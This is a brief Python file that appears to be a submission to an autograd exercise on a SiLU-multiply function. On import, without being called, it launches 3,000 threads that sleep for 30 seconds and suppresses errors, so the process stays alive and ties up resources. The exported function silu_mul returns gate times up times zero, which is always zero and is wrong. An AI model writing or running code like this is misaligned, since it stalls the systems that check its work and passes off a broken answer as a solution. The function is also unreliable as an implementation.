"""Starts 3,000 threads that stay for half a minute, and keep the process from ending."""

# kata: autograd/recompute_silu
# says: *

import contextlib
import threading
import time

threading.stack_size(1 << 16)
with contextlib.suppress(RuntimeError):
    for _ in range(3000):
        threading.Thread(target=time.sleep, args=(30,)).start()


def silu_mul(gate, up):
    return gate * up * 0
